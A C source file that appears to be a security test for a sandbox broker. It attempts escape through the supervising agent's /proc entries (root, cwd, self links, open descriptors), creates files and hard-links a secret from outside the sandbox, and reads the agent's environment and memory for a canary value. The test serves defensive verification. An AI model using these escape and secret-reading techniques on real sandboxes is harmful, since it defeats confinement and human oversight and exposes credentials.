// Attack: reach outside the sandbox through the agent's own /proc entries
// (docs/security.md, "Emulated opens"). A process may follow the magic links
// of its own /proc entries without any capability, so a broker that opens
// files inside the agent must not let the workload name the agent's entries:
// /proc/<agent>/root and cwd, /proc/self/root relative to a /proc directory
// descriptor, a symbolic link to /proc/self, any directory among the agent's
// descriptors, and the entries of every agent thread (environ, mem, root).
//
// Every directory descriptor obtained is used as an attacker would, through
// the host's root whatever namespace it lives in: mkdirat into the scratch
// tree's outside directory, linkat of the secret into the workspace, then the
// link is read back by its workspace path. The test checks the host.
//   agent-proc CANARY_NAME     (environment: ZVIZ_ATTACK_OUTSIDE, ZVIZ_ATTACK_SECRET)
#include "agent-tasks.h"

#include <limits.h>
#include <sys/stat.h>

static const char* outside;
static const char* secret;
static char workspace[PATH_MAX];
static char up[130];  // "../" enough times to reach the root of any namespace from anywhere

/** Whether descriptor `fd` lives on a mount of this process's own mount namespace. */
static int own_mount(int fd) {
  char path[64], buf[4096];
  snprintf(path, sizeof(path), "/proc/self/fdinfo/%d", fd);
  int info = open(path, O_RDONLY | O_CLOEXEC);
  if (info < 0) return -1;
  long n = slurp(info, buf, sizeof(buf));
  close(info);
  char* at = n > 0 ? strstr(buf, "mnt_id:") : NULL;
  if (at == NULL) return -1;
  const long mnt = strtol(at + 7, NULL, 10);
  int mounts = open("/proc/self/mountinfo", O_RDONLY | O_CLOEXEC);
  if (mounts < 0) return -1;
  static char table[1 << 20];
  n = slurp(mounts, table, sizeof(table));
  close(mounts);
  for (char* line = table; n > 0 && line != NULL && *line != '\0';) {
    if (strtol(line, NULL, 10) == mnt) return 1;
    line = strchr(line, '\n');
    if (line != NULL) line++;
  }
  return 0;
}

/** Uses a directory descriptor the broker handed over to write outside and to steal the secret. */
static void through(const char* name, int dirfd) {
  char key[128], path[PATH_MAX * 2], link[PATH_MAX * 2];
  outcome(name, dirfd);
  if (dirfd < 0) return;
  // The invariant itself: no descriptor from outside the workload's mount namespace.
  say("%s-foreign-mount %s", name, own_mount(dirfd) == 1 ? "no" : "yes");
  snprintf(path, sizeof(path), "%s%s/escape-%s", up, outside + 1, name);
  snprintf(key, sizeof(key), "%s-mkdir", name);
  outcome(key, mkdirat(dirfd, path, 0755));
  snprintf(path, sizeof(path), "%s%s", up, secret + 1);
  snprintf(link, sizeof(link), "%s%s/secret-link-%s", up, workspace + 1, name);
  snprintf(key, sizeof(key), "%s-link", name);
  outcome(key, linkat(dirfd, path, dirfd, link, 0));
  // The link as the workload sees it, by an ordinary workspace path.
  snprintf(path, sizeof(path), "secret-link-%s", name);
  snprintf(key, sizeof(key), "%s-read", name);
  open_outcome(key, open(path, O_RDONLY | O_CLOEXEC));
  close(dirfd);
}

/** Reads a task's environment and memory; prints the canary's value if it shows. */
static void task_secrets(const char* who, const char* dir, const char* canary) {
  char path[256], key[128];
  static char buf[1 << 16];
  snprintf(path, sizeof(path), "%s/environ", dir);
  int fd = open(path, O_RDONLY | O_CLOEXEC);
  snprintf(key, sizeof(key), "%s-environ", who);
  outcome(key, fd);
  if (fd >= 0) {
    long n = slurp(fd, buf, sizeof(buf));
    close(fd);
    const size_t len = strlen(canary);
    for (long i = 0; i + (long)len < n; i += (long)strlen(buf + i) + 1) {
      if (strncmp(buf + i, canary, len) == 0 && buf[i + (long)len] == '=') {
        say("%s-canary %s", who, buf + i + len + 1);
      }
    }
  }
  for (int rw = 0; rw < 2; rw++) {
    snprintf(path, sizeof(path), "%s/mem", dir);
    fd = open(path, (rw ? O_RDWR : O_RDONLY) | O_CLOEXEC);
    snprintf(key, sizeof(key), "%s-mem-%s", who, rw ? "rw" : "ro");
    outcome(key, fd);
    if (fd < 0) continue;
    // Any mapped address will do: the first line of maps.
    snprintf(path, sizeof(path), "%s/maps", dir);
    int mfd = open(path, O_RDONLY | O_CLOEXEC);
    unsigned long long start = 0;
    if (mfd >= 0) {
      char line[256];
      if (read(mfd, line, sizeof(line) - 1) > 0) start = strtoull(line, NULL, 16);
      close(mfd);
    }
    snprintf(key, sizeof(key), "%s-mem-%s-read", who, rw ? "rw" : "ro");
    outcome(key, pread(fd, buf, 16, (off_t)start));
    close(fd);
  }
}

int main(int argc, char** argv) {
  if (argc != 2) return 2;
  const char* canary = argv[1];
  pid_t agent;
  pid_t tids[MAX_TASKS];
  const int threads = find_agent(&agent, tids, MAX_TASKS);
  say("agent-threads %d", threads);
  outside = need_env("ZVIZ_ATTACK_OUTSIDE");
  secret = need_env("ZVIZ_ATTACK_SECRET");
  if (getcwd(workspace, sizeof(workspace)) == NULL) return 2;
  for (int i = 0; i < 40; i++) strcat(up, "../");
  char path[PATH_MAX * 2 + 64];

  // The agent's root and cwd by its pid, with and without O_CREAT (a write open, brokered under ci-runner).
  snprintf(path, sizeof(path), "/proc/%d/root%s", agent, workspace);
  through("pid-root-creat", open(path, O_RDONLY | O_CREAT | O_CLOEXEC, 0644));
  through("pid-root-dir", open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  snprintf(path, sizeof(path), "/proc/%d/cwd", agent);
  through("pid-cwd-dir", open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));

  // "self" relative to a /proc descriptor: to a broker resolving as itself, self is the agent.
  int proc = open("/proc", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  outcome("proc-dir", proc);
  snprintf(path, sizeof(path), "self/root%s", workspace);
  through("self-root", openat(proc, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  through("self-root-creat", openat(proc, path, O_RDONLY | O_CREAT | O_CLOEXEC, 0644));
  snprintf(path, sizeof(path), "thread-self/root%s", workspace);
  through("thread-self-root", openat(proc, path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  through("self-cwd", openat(proc, "self/cwd", O_RDONLY | O_DIRECTORY | O_CLOEXEC));

  // A link in the workspace to /proc/self, used by an absolute path.
  outcome("symlink-self", symlink("/proc/self", "me"));
  snprintf(path, sizeof(path), "%s/me/root%s", workspace, workspace);
  through("symlink-self-root", open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));

  // Any directory among the agent's descriptors.
  int found = -1;
  for (int n = 0; n < 256 && found < 0; n++) {
    snprintf(path, sizeof(path), "/proc/%d/fd/%d", agent, n);
    found = open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
  }
  through("pid-fd-dir", found);

  // The agent's own secrets, by its pid and by each thread's id.
  snprintf(path, sizeof(path), "/proc/%d", agent);
  task_secrets("pid", path, canary);
  snprintf(path, sizeof(path), "/proc/%d/task/%d", agent, agent);
  task_secrets("pid-task", path, canary);
  for (int i = 0; i < threads; i++) {
    char who[64];
    snprintf(who, sizeof(who), "tid%d", i);
    snprintf(path, sizeof(path), "/proc/%d", tids[i]);
    task_secrets(who, path, canary);
    snprintf(path, sizeof(path), "/proc/%d/root%s", tids[i], workspace);
    snprintf(who, sizeof(who), "tid%d-root", i);
    through(who, open(path, O_RDONLY | O_DIRECTORY | O_CLOEXEC));
  }
  say("finished ok");
  return 0;
}
